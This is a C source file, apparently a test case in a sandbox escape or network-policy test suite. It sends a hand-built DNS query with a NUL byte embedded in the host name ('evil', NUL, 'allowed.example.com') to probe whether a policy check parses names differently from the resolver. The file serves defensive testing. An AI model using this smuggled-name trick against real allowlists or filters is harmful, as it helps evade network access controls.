/* A name with a NUL in it, before the name of a host that may be allowed. */
#include "../attack.h"

#include <fcntl.h>

#include "dial.h"

static const char *name_server(void)
{
	static char text[64];
	char line[256];
	FILE *f = fopen("/etc/resolv.conf", "re");

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "nameserver %63s", text) == 1)
			break;
	if (f)
		fclose(f);
	return text;
}

ATTACK(NETWORK, "attempts", .gain = "a check that sees another name than the resolver",
       .source = "a NUL in a host name", .works = SOME_KERNELS, .needs = "a name server",
       .flags = QUIET)
{
	static const unsigned char q[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0"
					 "\x0c"
					 "evil\0allowed\7example\3com\0\0\1\0\1";
	struct sockaddr_in a = at4(*name_server() ? name_server() : "127.0.0.1", 53);
	unsigned char answer[512];
	int fd = socket_soon(AF_INET, SOCK_DGRAM);
	ssize_t n;

	if (fd < 0 || sendto(fd, q, sizeof(q) - 1, 0, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	n = recv(fd, answer, sizeof(answer), 0);
	if (n < 0)
		return -1;
	return n > 12 && (answer[3] & 15) == 0 && (answer[6] || answer[7]) ? 0 : denied(ENOENT);
}
